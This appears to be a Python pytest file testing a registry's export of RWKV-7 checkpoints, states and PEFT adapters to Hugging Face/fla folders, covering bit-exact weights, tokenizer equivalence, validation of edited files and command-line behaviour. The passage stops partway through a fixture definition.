"""export-hf: a folder Transformers/fla loads, exact against its source, verified, registered, refused cleanly.

Here the model is checked by loading it with ``AutoModelForCausalLM.from_pretrained`` (no missing
or unexpected keys, every tensor as exported) and by our runtime reading the folder back and giving
exactly the logits of the source ``.pth``. fla's forward on the export is compared with our runtime
in tests/test_export_hf_fla.py (on CI through Triton's interpreter) and at 7.2B on the H200
(bench/gpu_export_hf.py).
"""

from __future__ import annotations

import ast
import hashlib
import json
import os
import random
import re
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner
from safetensors import safe_open
from safetensors.torch import load_file

from registry.artifacts.miss import merge_delta
from registry.artifacts.synthetic import (
    TinySpec,
    checkpoint_shapes,
    make_adapter_file,
    make_base_checkpoint,
    make_base_state_dict,
    make_state_file,
    make_state_tensors,
    save_checkpoint,
    share_storage,
)
from registry.cli import main
from registry.cli.app import _as_registry_error
from registry.convert.writer import safetensors_bytes
from registry.core.errors import RegistryError
from registry.core.names import SUMS_NAME
from registry.core.repo import Repo
from registry.core.sums import parse_sums
from registry.gate.prompts import PROMPTS
from registry.gate.reference import make_wkv7_inputs, wkv7_reference
from registry.gate.runtime import Rwkv7
from registry.hf.expected import TOKENIZER_JSON_SHA256
from registry.hf.mapping import SHAPE_KEYS, fla_plan, rules
from registry.hf.state import fla_state, misfit, tensor_name
from registry.hf.tensors import read_export
from registry.hf.tokenizer import (
    END_OF_TEXT,
    longest_match_pattern,
    trie_tokenizer,
    world_tokenizer_json,
    world_vocab_file,
)
from registry.hf.verify import SAMPLES
from registry.hub.local import local_files, local_sums
from registry.ops.add import AddRequest, add_weight
from registry.ops.add_base import BaseRequest, add_base
from registry.ops.describe import Description, Target, describe
from registry.ops.export_hf import ExportRequest, export_hf
from registry.ops.init import init_registry
from registry.ops.sums import write_sums
from registry.ops.validate import validate

from .conftest import SMALL, sha256_of, snapshot, user_environment
from .test_ops_artifacts import train_json

pytest.importorskip("transformers", reason="the hf extra (pip install -e '.[torch,hf,test]') is not installed")
pytest.importorskip("fla", reason="the hf extra (pip install -e '.[torch,hf,test]') is not installed")

WORLD = TinySpec(n_layer=2, n_embd=128, vocab_size=65536)  # a tokenizer is involved: the world vocabulary's size
SHARD = 8 << 20  # the embedding alone is 16 MiB: several shards and an index


@pytest.fixture(scope="session")
def world_base(tmp_path_factory) -> Path:
    return make_base_checkpoint(tmp_path_factory.mktemp("world") / "rwkv7-tiny-w-20260101.pth", WORLD, shared=True)


@pytest.fixture
def hf_registry(empty_registry, world_base, tmp_path):
    """A registry with a world-vocabulary base and a full fine-tune on it (one shared storage, like official files)."""
    add_base(empty_registry, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20230424.txt"))
    full = save_checkpoint(
        tmp_path / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5})))
    )
    entry = add_weight(
        empty_registry, AddRequest(full, world_base.name[:-4], "full", "v1.0", train_json(tmp_path / "f.json"))
    )
    return empty_registry, entry


def _tensors(folder: Path) -> dict[str, torch.Tensor]:
    out: dict[str, torch.Tensor] = {}
    for path in sorted(folder.glob("*.safetensors")):
        with safe_open(path, framework="pt") as f:
            out.update({k: f.get_tensor(k) for k in f.keys()})
    return out


def _bytes(t: torch.Tensor) -> bytes:
    return t.contiguous().view(torch.uint8).numpy().tobytes()


def test_full_export_is_exact_sharded_listed_and_valid(hf_registry):
    root, entry = hf_registry
    describe(root, Target(path=entry.path), Description(stop_tokens=(0, 261), stop_texts=("\n\nUser:",)))
    export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
    folder = root / export.path
    assert (
        export.path == entry.path.rsplit("/", 1)[0] + "/hf"
        and export.source == entry.path
        and export.source_sha256 == entry.sha256
    )
    names = {p.name for p in folder.iterdir()}
    assert {
        "config.json",
        "generation_config.json",
        "tokenizer.json",
        "tokenizer_config.json",
        "model.safetensors.index.json",
        "rwkv_vocab_v20230424.txt",
    } <= names
    assert (
        folder / "rwkv_vocab_v20230424.txt"
    ).read_bytes() == world_vocab_file().read_bytes()  # what llama.cpp's converter reads
    assert len([n for n in names if n.endswith(".safetensors")]) > 1
    assert {f.path for f in export.files} == {f"{export.path}/{n}" for n in names}
    sums = parse_sums((root / SUMS_NAME).read_bytes())
    assert all(sums[f.path] == f.sha256 == sha256_of(root / f.path) for f in export.files)
    assert Repo.open(root).load_index().exports == [export]
    assert validate(root) == []
    uploaded = local_files(Repo.open(root), local_sums(Repo.open(root)))  # what publish puts on the Hub
    assert {f.path for f in export.files} <= set(uploaded)

    source = torch.load(root / entry.path, weights_only=True)
    written = _tensors(folder)
    for rule in rules(WORLD.n_layer):
        want = source[rule.source].t() if rule.transform == "transpose" else source[rule.source]
        assert written[rule.target].dtype == want.dtype and _bytes(written[rule.target]) == _bytes(want), rule
    assert set(written) == {
        r.target for r in rules(WORLD.n_layer)
    }  # layer 0's unused v0/v1/v2 are all that is left out

    config = json.loads((folder / "config.json").read_text())
    assert (
        config["model_type"] == "rwkv7"
        and config["hidden_size"] == 128
        and config["num_hidden_layers"] == 2
        and config["head_dim"] == 64
    )
    assert config["vocab_size"] == 65536 and config["intermediate_size"] == 512 and config["dtype"] == "bfloat16"
    assert {config[k] for k in ("decay_low_rank_dim", "a_low_rank_dim", "gate_low_rank_dim")} == {32}
    generation = json.loads((folder / "generation_config.json").read_text())
    # each stop token is an EOS id; the stop text is three tokens, so it is not in the file: stop_strings
    # there would make a plain generate() fail without tokenizer= (test_export_hf_fla runs one)
    assert generation == {"bos_token_id": 0, "pad_token_id": 0, "do_sample": False, "eos_token_id": [0, 261]}


def test_the_card_shows_the_from_pretrained_snippet_of_each_export(hf_registry):
    root, entry = hf_registry
    describe(root, Target(path=entry.path), Description(stop_texts=("\n\nUser:",)))
    card = (root / "README.md").read_text()
    assert "AutoModelForCausalLM" not in card and "does not include a Transformers config" in card
    export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
    card = (root / "README.md").read_text()
    assert (
        f'subfolder="{export.path}", dtype="bfloat16"' in card
        and f'AutoTokenizer.from_pretrained(repo, subfolder="{export.path}")' in card
    )
    assert (
        "import fla" in card
        and "stop_strings=['\\n\\nUser:']" in card
        and "does not include a Transformers config" not in card
    )
    # what runs where, and why the stop text goes to generate rather than generation_config.json
    assert (
        "Transformers needs flash-linear-attention (`import fla` registers RWKV-7) and a CUDA GPU" in card
        and "On a CPU, load the `.pth` with the official `rwkv` package" in card
    )
    assert 'so a plain `model.generate(ids)` runs too; the stop text `"\\n\\nUser:"` spans several tokens' in card
    assert validate(root) == []


def test_runtime_reading_the_export_back_gives_the_pth_logits_exactly(hf_registry):
    root, entry = hf_registry
    export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
    original = Rwkv7.from_path(root / entry.path)
    exported = Rwkv7(read_export(root / export.path))
    pairs = zip(exported.stored_weights().values(), original.stored_weights().values(), strict=True)
    assert all(
        a.stride() == b.stride() and torch.equal(a, b) for a, b in pairs
    )  # same bytes, same layout (CUDA GEMMs depend on it)
    for prompt in PROMPTS.values():
        ids = trie_tokenizer().encode(prompt)
        assert torch.equal(exported.forward(ids, full_output=True)[0], original.forward(ids, full_output=True)[0])


def test_transformers_loads_it_with_no_missing_or_unexpected_keys(hf_registry):
    import fla  # noqa: F401, PLC0415 optional dependency: fla
    from transformers import AutoModelForCausalLM, AutoTokenizer, GenerationConfig  # noqa: PLC0415 optional dependency: transformers

    root, entry = hf_registry
    export = export_hf(root, ExportRequest(entry=entry.path))
    folder = root / export.path
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model, info = AutoModelForCausalLM.from_pretrained(folder, output_loading_info=True)
    assert not info["missing_keys"] and not info["unexpected_keys"] and not info["mismatched_keys"]
    state = model.state_dict()
    written = _tensors(folder)
    assert set(state) == set(written) and all(torch.equal(state[k], written[k]) for k in written)
    assert type(model).__name__ == "RWKV7ForCausalLM" and model.dtype == torch.bfloat16
    assert GenerationConfig.from_pretrained(folder).eos_token_id == 0
    loaded = AutoTokenizer.from_pretrained(folder)
    assert loaded.eos_token == END_OF_TEXT and loaded.eos_token_id == 0


def _random_text(rng: random.Random, length: int) -> str:
    pools = [
        "的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重新线内数正心反你明看原又么利比或但质气第向道命此变条只没结解问意建月公无系军很情者最立代想已通并提直题党程展五果料象员革位入常文总次品式活设及管特件长求老头基资边流路级少图山统接知较将组见计别她手角期根论运农指几九区强放决西被干做必战先回则任取据处队南给色光门即保治北造百规热领七海口东导器压志世金增争济阶油思术极交受联什认六共权收证改清己美再采转更单风切打白教速花带安场身车例真务具万每目至达走积示议声报斗完类八离华名确才科张信马节话米整空元况今集温传土许步群广石记需段研界拉林律叫且究观越织装影算低持音众书布复容儿须际商非验连断深难近矿千周委素技备半办青省列习响约支般史感劳便团往酸历市克何除消构府称太准精值号率族维划选标写存候毛亲快效斯院查江型眼王按格养易置派层片始却专状育厂京识适属圆包火住调满县局照参红细引听该铁价严龙飞",
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
        " \n\t\r.,;:!?'\"()[]{}<>/\\|-_=+*&^%$#@~`",
        "😀😃😄😁😆🥹😅😂🤣🥲☺️😊😇🙂🙃😉🌧️☔👍🏽👨‍👩‍👧‍👦🇨🇳",
        "αβγδεζηθικλμνξοπρστυφχψω абвгдеёжзийклмнопрстуфхцчшщъыьэюя ñçüéèàô ﬁ ـ عربي",
        "。，、；：？！「」『』（）【】《》……——",
    ]
    parts = []
    while sum(map(len, parts)) < length:
        pool = rng.choice(pools)
        parts.append("".join(rng.choice(pool) for _ in range(rng.randint(1, 40))))
        if rng.random() < 0.1:
            parts.append(" " * rng.randint(1, 300))  # the vocabulary's longest token is 128 spaces
        if rng.random() < 0.1:
            parts.append(rng.choice(["\n\nUser: ", "\n\nAssistant:", "User:", "Assistant: ", "System: "]))
    return "".join(parts)[:length]


def test_auto_tokenizer_gives_the_rwkv_ids_on_the_seed_prompts_and_random_text(hf_registry):
    from transformers import AutoTokenizer  # noqa: PLC0415 optional dependency: transformers

    root, entry = hf_registry
    export = export_hf(root, ExportRequest(entry=entry.path))
    loaded = AutoTokenizer.from_pretrained(root / export.path)
    reference = trie_tokenizer()
    rng = random.Random(15)
    texts = [*SAMPLES.values(), *(_random_text(rng, n) for n in (10, 200, 5_000, 60_000))]
    for text in texts:
        ids = loaded.encode(text, add_special_tokens=False)
        assert ids == reference.encode(text)
        assert loaded.decode(ids) == text
    assert loaded.decode([0]) == END_OF_TEXT and loaded.decode([0], skip_special_tokens=True) == ""


def test_the_longest_match_pattern_prefers_the_longest_token():
    pattern = re.compile(longest_match_pattern(["a", "ab", "abc", "b", "c", "bcd", "d"]))
    assert [m.group() for m in pattern.finditer("abcdabd")] == [
        "abc",
        "d",
        "ab",
        "d",
    ]  # greedy from the left, never "a" + "bcd"


def test_base_export_needs_the_registered_file(hf_registry, world_base, tmp_path):
    root, _ = hf_registry
    name = world_base.name[:-4]
    other = make_base_checkpoint(tmp_path / "other.pth", TinySpec(**{**WORLD.__dict__, "seed": 9}))
    before = snapshot(root)
    with pytest.raises(RegistryError) as refused:
        export_hf(root, ExportRequest(base=name, base_file=other))
    assert (
        refused.value.code == "export.wrong-base-file"
        and refused.value.file == str(other)
        and "pass the file registered as" in refused.value.fix
    )
    assert snapshot(root) == before
    export = export_hf(root, ExportRequest(base=name, base_file=world_base))
    assert export.path == f"{name}/hf" and export.source == name and validate(root) == []


# ----------------------------------------------------------------------------------------------
# bad input: one line naming the file and the fix, the registry unchanged


def _relisted(root: Path, rel: str) -> None:
    """Record an edited export file's sha256 and size in index.json and SHA256SUMS, so validate
    judges its content, not the mismatch with its record."""
    index = json.loads((root / "index.json").read_text())
    ref = next(f for e in index["exports"] for f in e["files"] if f["path"] == rel)
    ref["sha256"], ref["size"] = sha256_of(root / rel), (root / rel).stat().st_size
    (root / "index.json").write_text(json.dumps(index, indent=2, ensure_ascii=False) + "\n")
    write_sums(root)


def _refused(root: Path, request: ExportRequest) -> RegistryError:
    before = snapshot(root)
    with pytest.raises(RegistryError) as refused:
        export_hf(root, request)
    assert snapshot(root) == before
    assert "\n" not in refused.value.one_line() and refused.value.fix
    return refused.value


def _state_entry(root: Path, world_base: Path, tmp_path: Path, name: str = "s1224", seed: int = 1):
    state = make_state_file(tmp_path / f"{name}.pth", WORLD, seed=seed)
    return add_weight(
        root, AddRequest(state, world_base.name[:-4], "state", "v1.41", train_json(tmp_path / f"{name}.json"))
    ), state


def _exported_state(root: Path, world_base: Path, tmp_path: Path):
    """A State entry, exported after its base."""
    entry, _ = _state_entry(root, world_base, tmp_path)
    export_hf(root, ExportRequest(base=world_base.name[:-4], base_file=world_base))
    return entry, export_hf(root, ExportRequest(entry=entry.path))


def test_a_state_exports_as_flas_initial_recurrent_state(hf_registry, world_base, tmp_path):
    """Beside the State, one folder per State file: its time_state transposed to fla's [H, K, V],
    float32, bit for bit; listed, summed, published, validated; the same bytes when exported again."""

    root, _ = hf_registry
    name = world_base.name[:-4]
    entry, state = _state_entry(root, world_base, tmp_path)
    refused = _refused(root, ExportRequest(entry=entry.path))
    assert refused.code == "export.no-base-export" and "State" in refused.message and f"--base {name}" in refused.fix
    given_as_base = _refused(root, ExportRequest(base=name, base_file=state))  # a State handed to the base exporter
    assert given_as_base.code == "export.wrong-base-file" and given_as_base.file == str(state)

    export_hf(root, ExportRequest(base=name, base_file=world_base))
    export = export_hf(root, ExportRequest(entry=entry.path))
    other, _ = _state_entry(root, world_base, tmp_path, "s1374", seed=2)
    second = export_hf(root, ExportRequest(entry=other.path))
    assert (export.path, second.path) == (f"{name}/state/v1.41/hf/s1224", f"{name}/state/v1.41/hf/s1374")
    assert [f.path for f in export.files] == [
        f"{export.path}/initial_state.safetensors"
    ] and export.source_sha256 == entry.sha256
    loaded = load_file(root / export.files[0].path)
    time_state = torch.load(state, weights_only=True)
    assert set(loaded) == {f"model.layers.{i}.attn.recurrent_state" for i in range(WORLD.n_layer)}
    for i in range(WORLD.n_layer):
        got, want = loaded[f"model.layers.{i}.attn.recurrent_state"], time_state[f"blocks.{i}.att.time_state"]
        assert got.dtype == torch.float32 and got.shape == (WORLD.n_head, WORLD.head_size, WORLD.head_size)
        assert torch.equal(got, want.float().transpose(-1, -2)) and not torch.equal(got, want.float())
    sums = parse_sums((root / SUMS_NAME).read_bytes())
    assert sums[export.files[0].path] == export.files[0].sha256 == sha256_of(root / export.files[0].path)
    assert validate(root) == []
    assert export.files[0].path in local_files(Repo.open(root), local_sums(Repo.open(root)))
    before = snapshot(root)
    assert export_hf(root, ExportRequest(entry=entry.path)) == export
    assert snapshot(root) == before


def test_flas_reference_recurrence_from_the_exported_state_is_ours_from_the_state():
    """The layout, on CPU, with fla's own reference of the recurrence its RWKV-7 kernels compute
    (``dplr_recurrence``: S ← S·diag(exp gk) + k vᵀ + β αᵀ S, o = q S, S ``[K, V]``): started from the
    exported recurrent state it gives our reference's outputs and final state (transposed) started
    from the State; started from the State as it is (untransposed) it does not."""
    from fla.ops.generalized_delta_rule.dplr.naive import dplr_recurrence  # noqa: PLC0415 optional dependency: fla

    steps, heads, size = 24, WORLD.n_head, WORLD.head_size
    (r, w, k, v, a, b), _ = make_wkv7_inputs(1, steps, heads, head_size=size, seed=5)
    time_state = {
        name: t * 10 for name, t in make_state_tensors(WORLD, seed=4, dtype=torch.float32).items()
    }  # strong: it dominates 24 steps
    start = time_state["blocks.0.att.time_state"][None]
    want, want_final = wkv7_reference(r, w, k, v, a, b, start.clone())

    def per_head(t: torch.Tensor) -> torch.Tensor:  # [B, T, H·N] -> fla's [B, H, T, N]
        return t.float().view(1, steps, heads, size).transpose(1, 2)

    def fla_run(initial: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        q = per_head(r) * size**0.5  # RWKV-7 has no 1/sqrt(K) on r; dplr_recurrence applies one
        out, final = dplr_recurrence(
            q, per_head(k), per_head(v), per_head(a), per_head(b), -torch.exp(per_head(w)), initial_state=initial
        )
        return out.transpose(1, 2).reshape(1, steps, heads * size), final

    got, got_final = fla_run(fla_state(time_state)[tensor_name(0)][None])
    assert torch.allclose(got, want, rtol=1e-4, atol=1e-4) and torch.allclose(
        got_final, want_final.transpose(-1, -2), rtol=1e-4, atol=1e-4
    )
    untransposed, _ = fla_run(start)
    assert float((untransposed - want).abs().max()) > 1.0


def test_a_state_export_that_no_longer_fits_is_found_by_validate(hf_registry, world_base, tmp_path):
    root, _ = hf_registry
    entry, export = _exported_state(root, world_base, tmp_path)
    path = root / export.files[0].path
    tensors = load_file(path)
    tensors["model.layers.1.attn.recurrent_state"] = tensors["model.layers.1.attn.recurrent_state"].bfloat16()
    path.write_bytes(safetensors_bytes(tensors, {"source_sha256": entry.sha256}))
    _relisted(root, export.files[0].path)
    messages = [p.message for p in validate(root) if p.code == "export.invalid"]
    assert any(
        "model.layers.1.attn.recurrent_state is BF16 (2, 64, 64), but the recurrent state of the base "
        "export's config.json is F32 (2, 64, 64)" in m
        for m in messages
    ), messages


def test_an_adapter_or_state_export_refuses_a_base_export_edited_after_its_record(hf_registry, world_base, tmp_path):
    root, _ = hf_registry
    name = world_base.name[:-4]
    entry, _ = _state_entry(root, world_base, tmp_path)
    export_hf(root, ExportRequest(base=name, base_file=world_base))
    config = root / name / "hf" / "config.json"
    config.write_text(config.read_text().replace('"num_hidden_layers": 2', '"num_hidden_layers": 3'))
    refused = _refused(root, ExportRequest(entry=entry.path))
    assert (
        refused.code == "export.base-export-changed"
        and refused.file == f"{name}/hf/config.json"
        and "--force" in refused.fix
    )


def test_a_state_misfit_says_what_is_missing_extra_or_wrong_in_layer_order():
    config = {"head_dim": 64, "hidden_size": 128, "num_hidden_layers": 12}
    good = {f"model.layers.{i}.attn.recurrent_state": ((2, 64, 64), "F32") for i in range(12)}
    assert misfit(config, good) is None
    lacking = {
        k: v
        for k, v in good.items()
        if k not in ("model.layers.2.attn.recurrent_state", "model.layers.10.attn.recurrent_state")
    }
    assert (
        misfit(config, lacking)
        == "initial_state.safetensors lacks model.layers.2.attn.recurrent_state (the F32 (2, 64, 64) recurrent "
        "state of the base export's config.json)"
    )
    assert (
        misfit(config, {**good, "zzz": ((1,), "F32")})
        == "initial_state.safetensors holds zzz, which is not a recurrent state of the base export's config.json"
    )


def test_the_card_shows_generation_from_the_exported_state(hf_registry, world_base, tmp_path):
    root, _ = hf_registry
    name = world_base.name[:-4]
    _, export = _exported_state(root, world_base, tmp_path)
    card = (root / "README.md").read_text()
    section = card[card.index(f"### Transformers (`{export.path}`)") :]
    section = section[: section.index("print(text)")]
    assert f"subfolder={json.dumps(f'{name}/hf')}" in section and "from fla.models.utils import Cache" in section
    assert f"hf_hub_download(repo, {json.dumps(export.path + '/initial_state.safetensors')})" in section
    assert "past_key_values=initial_state()" in section and "PeftModel" not in section
    assert (
        '"transformers>=5,<5.24"' in section
    )  # 5.24 and later hand generate's cache to fla as `cache=`, which it refuses
    ast.parse(section[section.index("```python\n") + len("```python\n") :])  # the snippet is Python


@pytest.mark.parametrize(
    ("case", "message", "fix"),
    [
        ("head32", "head size 32", "head size 64"),
        ("no-gate-lora", "missing blocks.1.att.g1", "all four LoRA blocks"),
        ("one-layer", "has 1 layer", "publish the .pth"),
    ],
)
def test_shapes_no_fla_configuration_has_are_refused(empty_registry, tmp_path, case, message, fix):
    if case == "head32":
        tensors = make_base_state_dict(TinySpec(n_layer=2, n_embd=128, vocab_size=65536, head_size=32))
    elif case == "one-layer":  # fla's layer set-up divides by num_hidden_layers - 1
        tensors = make_base_state_dict(TinySpec(n_layer=1, n_embd=128, vocab_size=65536))
    else:
        tensors = make_base_state_dict(WORLD)
        del tensors["blocks.1.att.g1"], tensors["blocks.1.att.g2"]
    base_file = save_checkpoint(tmp_path / "rwkv7-odd-20260101.pth", tensors)
    add_base(
        empty_registry, BaseRequest(path=None, filename=base_file.name, sha256=sha256_of(base_file))
    )  # declared by hash: add-base's own checks aside
    error = _refused(empty_registry, ExportRequest(base="rwkv7-odd-20260101", base_file=base_file))
    assert (
        error.code == "export.not-fla"
        and error.file == str(base_file)
        and message in error.message
        and fix in error.fix
    )


def test_fla_plan_refuses_a_rank_that_differs_between_layers():
    shapes = checkpoint_shapes(WORLD)
    shapes["blocks.1.att.a1"], shapes["blocks.1.att.a2"] = (128, 64), (64, 128)
    with pytest.raises(RegistryError, match=r"blocks\.0\.att\.a1 is \(128, 32\)"):
        fla_plan(shapes, "x.pth")


def test_an_export_folder_that_differs_is_refused_unless_forced(hf_registry):
    root, entry = hf_registry
    export = export_hf(root, ExportRequest(entry=entry.path))
    config = root / export.path / "config.json"
    config.write_text(config.read_text().replace('"use_cache": true', '"use_cache": false'))
    write_sums(root)
    error = _refused(root, ExportRequest(entry=entry.path))
    assert error.code == "export.exists" and error.file == f"{export.path}/config.json" and "--force" in error.fix
    export_hf(root, ExportRequest(entry=entry.path, force=True))
    assert '"use_cache": true' in config.read_text() and validate(root) == []


def test_a_forced_export_removes_the_files_it_no_longer_writes(hf_registry):
    """Sharded, then exported again as one file: the old shards are refused, then forced out."""
    root, entry = hf_registry
    sharded = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
    old_shards = sorted(p.name for p in (root / sharded.path).glob("model-*.safetensors"))
    assert len(old_shards) > 1
    error = _refused(root, ExportRequest(entry=entry.path))
    assert (
        error.code == "export.stale-files"
        and error.file == f"{sharded.path}/{old_shards[0]}"
        and "--force" in error.fix
    )
    for foreign in ("scratch/", "notes.txt"):  # no export lists them: never deleted, even forced
        (root / sharded.path / "scratch").mkdir() if foreign.endswith("/") else (
            root / sharded.path / foreign
        ).write_text("mine")
        write_sums(root)
        refused = _refused(root, ExportRequest(entry=entry.path, force=True))
        assert (
            refused.code == "export.stale-files"
            and refused.file == f"{sharded.path}/{foreign.rstrip('/')}"
            and "move it out" in refused.fix
        )
        shutil.rmtree(root / sharded.path / "scratch") if foreign.endswith("/") else (
            root / sharded.path / foreign
        ).unlink()
        write_sums(root)
    one = export_hf(root, ExportRequest(entry=entry.path, force=True))
    assert sorted(p.name for p in (root / one.path).iterdir()) == sorted(Path(f.path).name for f in one.files)
    assert "model.safetensors" in {Path(f.path).name for f in one.files} and not set(old_shards) & {
        p.name for p in (root / one.path).iterdir()
    }
    assert validate(root) == [] and list((root / ".registry" / "staging").iterdir()) == []


def test_a_vocabulary_other_than_the_recorded_one_is_refused(empty_registry, world_base, small_base):
    add_base(empty_registry, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20220101.txt"))
    error = _refused(empty_registry, ExportRequest(base=world_base.name[:-4], base_file=world_base))
    assert (
        error.code == "export.vocab-mismatch" and error.file == "index.json" and "rwkv_vocab_v20220101" in error.message
    )
    add_base(empty_registry, BaseRequest(path=small_base, filename=small_base.name, vocab="rwkv_vocab_v20230424.txt"))
    error = _refused(empty_registry, ExportRequest(base=small_base.name[:-4], base_file=small_base))
    assert (
        error.code == "export.vocab-mismatch"
        and error.file == str(small_base)
        and f"{SMALL.vocab_size} token embeddings" in error.message
    )


# ----------------------------------------------------------------------------------------------
# the command line


def test_cli_json_help_usage_and_missing_extra(hf_registry, monkeypatch):
    root, entry = hf_registry
    runner = CliRunner()
    done = runner.invoke(main, ["export-hf", entry.path, "-C", str(root), "--json"])
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout)["path"] == entry.path.rsplit("/", 1)[0] + "/hf"
    assert runner.invoke(main, ["export-hf", "--help"]).exit_code == 0
    usage = runner.invoke(main, ["export-hf", "-C", str(root), "--json"])
    assert usage.exit_code == 2 and json.loads(usage.stdout)["ok"] is False
    refused = runner.invoke(
        main, ["export-hf", "--base", "nope", "--base-file", str(root / entry.path), "-C", str(root), "--json"]
    )
    assert refused.exit_code == 3 and json.loads(refused.stdout)["problems"][0]["code"] == "export.unknown-base"
    missing = _as_registry_error(ModuleNotFoundError("No module named 'transformers'", name="transformers"))
    assert (
        missing is not None and missing.code == "install.needs-hf" and missing.fix == "pip install 'rwkv-registry[hf]'"
    )


def test_the_command_keeps_flas_notices_off_stderr(hf_registry):
    """A fresh process, so fla's import-time notice fires: the export runs none of fla's kernels."""
    root, entry = hf_registry
    command = [sys.executable, "-m", "registry", "export-hf", entry.path, "-C", str(root)]
    done = subprocess.run(command, capture_output=True, text=True, env=user_environment())
    assert done.returncode == 0, done.stderr
    assert "Warning" not in done.stderr and "hf/ (" in done.stdout


def test_validate_checks_the_export_against_its_source_and_folder(hf_registry):
    root, entry = hf_registry
    export = export_hf(root, ExportRequest(entry=entry.path))
    (root / export.path / "notes.txt").write_text("stray")
    config = root / export.path / "config.json"
    config.write_text(config.read_text().replace('"intermediate_size": 512', '"intermediate_size": 256'))
    write_sums(root)
    found = {(p.code, p.file): p.message for p in validate(root)}
    assert ("export.unlisted-file", f"{export.path}/notes.txt") in found
    message = found[("export.invalid", export.path)]
    assert "another sha256" in message  # index.json's record of config.json no longer matches
    _relisted(root, f"{export.path}/config.json")
    messages = [p.message for p in validate(root) if p.code == "export.invalid"]
    assert any("config.json says intermediate_size 256 but the base records 512" in m for m in messages), messages


def test_a_miss_adapter_exports_for_peft_and_peft_merges_it_bit_exactly_as_we_do(hf_registry, world_base, tmp_path):
    """PEFT loads the exported adapter onto the exported base, and its merge is ours, bit for bit.

    Rank 24 does not divide n_embd 128, so PEFT's partial last block is exercised too; scale 0.37
    makes float32 blocks necessary (a bf16 ``scale·D`` would round)."""
    from peft import PeftModel  # noqa: PLC0415 optional dependency: peft
    from transformers import AutoModelForCausalLM  # noqa: PLC0415 optional dependency: transformers

    root, _ = hf_registry
    base_sha = Repo.open(root).load_index().bases[0].sha256
    name = world_base.name[:-4]
    adapter = make_adapter_file(tmp_path / "adapter-final.pth", WORLD, base_sha, rank=24, scale=0.37)
    entry = add_weight(
        root, AddRequest(adapter, name, "miss", "v2.1", train_json(tmp_path / "m.json"), run="r24-lr2e-5")
    )

    refused = _refused(root, ExportRequest(entry=entry.path))
    assert refused.code == "export.no-base-export" and f"--base {name}" in refused.fix

    base_export = export_hf(root, ExportRequest(base=name, base_file=world_base))
    export = export_hf(root, ExportRequest(entry=entry.path))
    assert export.path == entry.path.rsplit("/", 1)[0] + "/hf" and export.source_sha256 == entry.sha256
    assert {f.path.rsplit("/", 1)[1] for f in export.files} == {"adapter_config.json", "adapter_model.safetensors"}
    sums = parse_sums((root / SUMS_NAME).read_bytes())
    assert all(sums[f.path] == f.sha256 == sha256_of(root / f.path) for f in export.files)
    assert validate(root) == []
    assert {f.path for f in export.files} <= set(local_files(Repo.open(root), local_sums(Repo.open(root))))
    before = snapshot(root)
    assert export_hf(root, ExportRequest(entry=entry.path)) == export  # the same adapter gives the same bytes
    assert snapshot(root) == before

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model = AutoModelForCausalLM.from_pretrained(root / base_export.path)
        merged = PeftModel.from_pretrained(model, root / export.path).merge_and_unload()
    got = merged.state_dict()
    base = torch.load(world_base, weights_only=True)
    blocks = torch.load(adapter, weights_only=True)
    targets = {rule.source: rule.target for rule in rules(WORLD.n_layer)}
    for source, block in blocks.items():
        want = merge_delta(base[source], block, 0.37)
        assert got[targets[source]].dtype == torch.bfloat16 and torch.equal(got[targets[source]], want), source
        assert not torch.equal(want, base[source])
    untouched = [r for r in rules(WORLD.n_layer) if r.transform == "rename" and r.source not in blocks]
    assert untouched and all(torch.equal(got[r.target], base[r.source]) for r in untouched)


def test_a_peft_export_that_no_longer_fits_is_found_by_validate(hf_registry, world_base, tmp_path):
    root, _ = hf_registry
    base_sha = Repo.open(root).load_index().bases[0].sha256
    name = world_base.name[:-4]
    adapter = make_adapter_file(tmp_path / "adapter-final.pth", WORLD, base_sha, rank=16, scale=2.0)
    entry = add_weight(root, AddRequest(adapter, name, "miss", "v2.1", train_json(tmp_path / "m.json"), run="r16"))
    export_hf(root, ExportRequest(base=name, base_file=world_base))
    export = export_hf(root, ExportRequest(entry=entry.path))
    config_path = root / export.path / "adapter_config.json"
    config = json.loads(config_path.read_text())
    config["r"] = 8
    config_path.write_text(json.dumps(config))
    _relisted(root, f"{export.path}/adapter_config.json")
    messages = [p.message for p in validate(root) if p.code == "export.invalid" and p.file == export.path]
    assert any(
        "miss_block is F32 (16, 128), but the miss_block its config makes is F32 (8, 128)" in m for m in messages
    ), messages


def test_the_card_shows_the_peft_snippet_for_an_exported_adapter(hf_registry, world_base, tmp_path):
    root, _ = hf_registry
    name = world_base.name[:-4]
    adapter = make_adapter_file(tmp_path / "adapter-final.pth", WORLD, Repo.open(root).load_index().bases[0].sha256)
    entry = add_weight(root, AddRequest(adapter, name, "miss", "v2.1", train_json(tmp_path / "m.json"), run="r16"))
    export_hf(root, ExportRequest(base=name, base_file=world_base))
    export = export_hf(root, ExportRequest(entry=entry.path))
    card = (root / "README.md").read_text()
    section = card[card.index(f"### PEFT (`{export.path}`)") :]
    section = section[: section.index("print(text)")]
    assert '"peft>=0.21"\n```' in section and f"subfolder={json.dumps(f'{name}/hf')}" in section
    assert f"PeftModel.from_pretrained(model, repo, subfolder={json.dumps(export.path)}).merge_and_unload()" in section
    assert f"### Transformers (`{name}/hf`)" in card and f"### Transformers (`{export.path}" not in card


# ----------------------------------------------------------------------------------------------
# A tampered export fails validate: its small files are re-derived from the source and compared


@pytest.fixture(scope="module")
def exported_template(tmp_path_factory, world_base) -> tuple[Path, str]:
